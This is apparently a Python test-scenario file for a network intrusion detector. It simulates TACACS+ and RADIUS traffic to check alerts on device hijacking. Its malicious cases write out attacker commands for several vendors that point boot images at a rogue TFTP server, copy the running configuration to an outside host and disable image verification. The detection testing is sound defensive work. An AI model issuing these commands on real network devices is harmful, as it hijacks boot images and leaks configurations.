"""BW07, BW05: what is typed over SSH, as devices ask their AAA servers for leave and account for it."""

from __future__ import annotations

import dataclasses

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, OUTSIDE, ROGUE
from bootwarden.traffic import radius, tacacs
from bootwarden.traffic.wire import Wire

AAA = "10.0.9.49"
KEY = b"k3y-do-not-log"

KEYED = dataclasses.replace(
    HQ,
    name="hq-tacacs",
    toml=HQ.toml.replace("[network]\n", f'[network]\ntacacs_keys = {{ "{AAA}" = "file:keys/tacacs" }}\n'),
    files={**HQ.files, "keys/tacacs": KEY + b"\n"},
)
"""The common site, whose TACACS+ key is known."""

EVIL = f"tftp://{ROGUE}/evil.bin"
BOOT = Notice("Boot_Command", DEVICE, ROGUE, "evil.bin")
RELOAD = Notice("Remote_Reload", DEVICE)
HIJACK = Notice("Netboot_Hijack", DEVICE)
BY = {"user": "anna", "actor": ATTACKER}


@scenario(
    "BW07",
    "malicious",
    site=KEYED,
    with_site=Expect(
        (BOOT, RELOAD, HIJACK),
        evidence=(
            BY
            | {"device": DEVICE, "object": f"boot system {EVIL}", "server": ROGUE, "detail": "TACACS+ authorization"},
            BY | {"device": DEVICE, "object": "reload", "detail": "TACACS+ accounting"},
        ),
    ),
)
def bw07_tacacs_with_key(wire: Wire) -> None:
    """An attacker on SSH sets the boot system and reloads: obfuscated TACACS+, several sessions on one connection."""
    device = tacacs.Device(wire, DEVICE, AAA, key=KEY)
    device.authenticate("anna", "reload")
    device.authorize("configure terminal", source=ATTACKER)
    device.authorize(f"boot system {EVIL}", source=ATTACKER)
    device.account("reload", source=ATTACKER)
    device.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 1542007450, DEVICE, AAA)],
    site=HQ,
    with_site=Expect((BOOT,)),
)
def bw07_tacacs_in_clear(wire: Wire) -> None:
    """A device without a key asks word by word, in small segments."""
    device = tacacs.Device(wire, DEVICE, AAA)
    device.authorize(f"boot system {EVIL}", source=ATTACKER, mss=200)
    device.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 1542007450, host, AAA) for host in (DEVICE, "10.0.1.2")],
    site=KEYED,
    with_site=Expect((BOOT, Notice("Boot_Command", "10.0.1.2", ROGUE, "evil.bin"))),
)
def bw07_tacacs_clear_and_not_flagged(wire: Wire) -> None:
    """Clients that have no key leave out the flag that says so, as PyPI's tacacs_plus does; the server has one."""
    for port, host in ((50051, DEVICE), (50052, "10.0.1.2")):
        device = tacacs.Device(wire, host, AAA, flags=0, port=port)
        device.account(f"boot system {EVIL}", source=ATTACKER)
        device.close()


@scenario(
    "BW05",
    "malicious",
    raises=[
        ("BW05", 1542007451, DEVICE, AAA),
        ("BW18", 1542007452, "10.0.1.2", AAA),
        ("BW27", 1542007453, "10.0.1.3", AAA),
    ],
    # Who typed it, a rule cannot tell: administrators are declared, who may reload.
    raises_with_site=[("BW18", 1542007452, "10.0.1.2", AAA)],
    plain=Expect((Notice("Config_Exfiltration", "10.0.1.2", OUTSIDE, "stolen-confg"),)),
    site=HQ,
    with_site=Expect(
        (
            RELOAD,
            Notice("Config_Exfiltration", "10.0.1.2", OUTSIDE, "stolen-confg"),
            Notice("Boot_Integrity_Lowered", "10.0.1.3"),
        )
    ),
)
def bw05_tacacs_in_clear(wire: Wire) -> None:
    """Devices without a key ask leave to reload, account for a copy sent away, and are to check images no more."""
    asking = tacacs.Device(wire, DEVICE, AAA)
    asking.authorize("reload", source=ATTACKER)
    asking.close()
    telling = tacacs.Device(wire, "10.0.1.2", AAA)
    telling.account(f"copy running-config tftp://{OUTSIDE}/stolen-confg", source=ATTACKER)
    telling.close()
    lowered = tacacs.Device(wire, "10.0.1.3", AAA)
    lowered.authorize("no file verify auto", source=ATTACKER)
    lowered.close()


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 1542007401, DEVICE, AAA)],
    site=HQ,
    with_site=Expect((BOOT,)),
)
def bw07_radius_junos_change(wire: Wire) -> None:
    """Junos accounts for a change of its configuration that names a rogue server."""
    change = radius.of_vendor(radius.JUNIPER, 9, f"set system autoinstallation configuration-servers {EVIL}")
    radius.account(wire, DEVICE, AAA, change, source=ATTACKER)


@scenario("BW07", "benign", site=KEYED, with_site=Expect())
def bw07_tacacs_daily_work(wire: Wire) -> None:
    """Administrators look around, save, back up to the declared server; a message is longer than is read."""
    device = tacacs.Device(wire, DEVICE, AAA, key=KEY)
    device.authenticate("anna", f"boot system {EVIL}")
    for command in ("show running-config", "show reload", "no boot system", "write memory", "terminal length 0"):
        device.authorize(command, source=ADMIN)
        device.account(command, source=ADMIN)
    device.account(f"copy tftp://{BOOT_SERVER}/{IMAGE} flash:", source=ADMIN)
    device.account("banner motd " + "reload " * 30, source=ADMIN)
    device.close()


@scenario(
    "BW07",
    "benign",
    site=dataclasses.replace(KEYED, name="hq-tacacs-other", files={**HQ.files, "keys/tacacs": b"another\n"}),
    with_site=Expect(evidence=()),
)
def bw07_tacacs_wrong_key(wire: Wire) -> None:
    """The key that the site declares is not the server's: nothing is made of what cannot be read."""
    device = tacacs.Device(wire, DEVICE, AAA, key=KEY)
    for _ in range(4):
        device.authorize(f"boot system {EVIL}", source=ATTACKER)
    device.close()


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", 1542007400, DEVICE, AAA),
        ("BW07", 1542007402, "10.0.1.2", AAA),
        ("BW07", 1542007403, "10.0.1.3", AAA),
        ("BW07", 1542007404, "10.0.1.4", AAA),
    ],
    site=HQ,
    with_site=Expect(
        (
            Notice("Boot_Command", DEVICE, ROGUE, "evil.tgz"),
            *(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, "evil.bin") for last in (2, 3, 4)),
        ),
        evidence=tuple(BY | {"server": ROGUE, "detail": "RADIUS accounting"} for _ in range(4)),
    ),
)
def bw07_radius_accounting(wire: Wire) -> None:
    """Junos, EOS, ProCurve and NX-OS account by RADIUS for commands that name a rogue server."""
    junos = radius.of_vendor(radius.JUNIPER, 8, f"request system software add tftp://{ROGUE}/evil.tgz")
    radius.account(wire, DEVICE, AAA, junos, source=ATTACKER)
    eos = radius.of_vendor(radius.ARISTA, 5, f"boot system {EVIL}")
    radius.account(wire, "10.0.1.2", AAA, radius.of_vendor(radius.ARISTA, 2, "15"), eos, source=ATTACKER)
    procurve = radius.of_vendor(radius.HP, 2, f"copy tftp flash {ROGUE} evil.bin")
    radius.account(wire, "10.0.1.3", AAA, procurve, source=ATTACKER)
    nxos = radius.of_vendor(radius.CISCO, 1, f"accountinginfo=boot nxos {EVIL}")
    radius.account(wire, "10.0.1.4", AAA, nxos, source=ATTACKER)


@scenario(
    "BW07",
    "benign",
    raises=[("BW07", 1542007402, DEVICE, AAA)],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(),
)
def bw07_radius_daily_work(wire: Wire) -> None:
    """Sessions begin and end, VPN users come and go, an administrator shows and fetches what is approved."""
    for number, command in enumerate(("show version", "show reload", f"copy tftp://{BOOT_SERVER}/{IMAGE} flash:")):
        radius.account(wire, DEVICE, AAA, radius.of_vendor(radius.ARISTA, 5, command), source=ADMIN, number=number)
    radius.account(wire, DEVICE, AAA, user=f"boot system {EVIL}", source=ADMIN, number=9)
    radius.account(wire, DEVICE, AAA, radius.of_vendor(radius.CISCO, 1, "shell:priv-lvl=15"), source=ADMIN, number=10)
